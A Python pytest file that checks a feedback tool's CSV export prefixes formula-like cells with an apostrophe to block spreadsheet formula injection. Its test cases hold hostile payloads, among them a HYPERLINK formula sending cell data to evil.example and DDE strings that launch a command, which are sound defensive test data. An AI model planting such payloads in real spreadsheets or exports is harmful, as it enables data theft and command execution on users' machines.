"""``nicepick feedback export --csv``: a reader's text never becomes a spreadsheet formula.

Notes are stored in a real SQLite file, exported through the command, and the CSV read back:
each cell a spreadsheet would run as a formula starts with ``'`` (OWASP's advice), every other
cell is exactly what the reader wrote, and ``feedback list --json`` keeps the raw text.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.cli import main
from app.feedback.store import FeedbackStore, NewNote
from app.settings import Settings

CASES = [
    # (id, text as stored, as the CSV cell must read)
    ("equals-hyperlink", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
    ("equals-dde", "=cmd|' /C calc'!A0", "'=cmd|"),
    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd"),
    ("minus", "-2+3+cmd|' /C calc'!A0", "'-2+3"),
    ("at", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM"),
    ("tab", "\t=1+1 after a tab", "'\t=1+1"),
    ("carriage-return", "\r=1+1 after a CR", "'\r=1+1"),
    # Text that only contains such characters later is left exactly as written.
    ("plain", "Emacs has Org mode = reason", "Emacs has Org mode = reason"),
    ("leading-space", " =not a formula start", " =not a formula start"),
    ("unicode", "Zoë: 日本語 👍🏽", "Zoë: 日本語 👍🏽"),
]


@pytest.fixture
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "var"
    monkeypatch.chdir(tmp_path)  # no .env of the developer's
    for name in ("NICEPICK_DATABASE_URL", "NICEPICK_CONTENT_DIR"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("NICEPICK_DATA_DIR", str(folder))
    folder.mkdir()
    store = FeedbackStore.from_url(Settings(_env_file=None, data_dir=folder).resolved_database_url)
    store.create_schema()
    try:
        for _, text, _ in CASES:
            store.add_note(
                NewNote(
                    slug="vim-vs-emacs",
                    title="=Vim vs Emacs",
                    our_pick="Vim",
                    reader_pick="Emacs",
                    message=text,
                    name=text[:100],
                    email="-ada@example.org",
                    page_hash="d" * 64,
                    page_updated=None,
                )
            )
    finally:
        store.dispose()
    return folder


@pytest.mark.parametrize(("text", "cell"), [case[1:] for case in CASES], ids=[c[0] for c in CASES])
def test_csv_cells_never_start_a_formula(
    data_dir: Path, tmp_path: Path, text: str, cell: str
) -> None:
    target = tmp_path / "notes.csv"
    assert main(["feedback", "export", "--csv", str(target)]) == 0
    with target.open(encoding="utf-8", newline="") as handle:
        rows = {row["message"].lstrip("'"): row for row in csv.DictReader(handle)}
    row = rows[text]
    assert row["message"].startswith(cell)
    assert row["message"] in (text, "'" + text)
    assert row["name"].startswith(cell[:100])
    assert row["email"] == "'-ada@example.org"
    assert row["title"] == "'=Vim vs Emacs"
    assert row["id"].isdigit()


def test_json_list_keeps_the_raw_text(data_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    capsys.readouterr()
    assert main(["feedback", "list", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert [note["message"] for note in listed] == [text for _, text, _ in CASES]


def test_csv_to_stdout_is_neutralised_too(
    data_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["feedback", "export", "--csv", "-"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert rows and not any(value.startswith(starts) for row in rows for value in row.values())
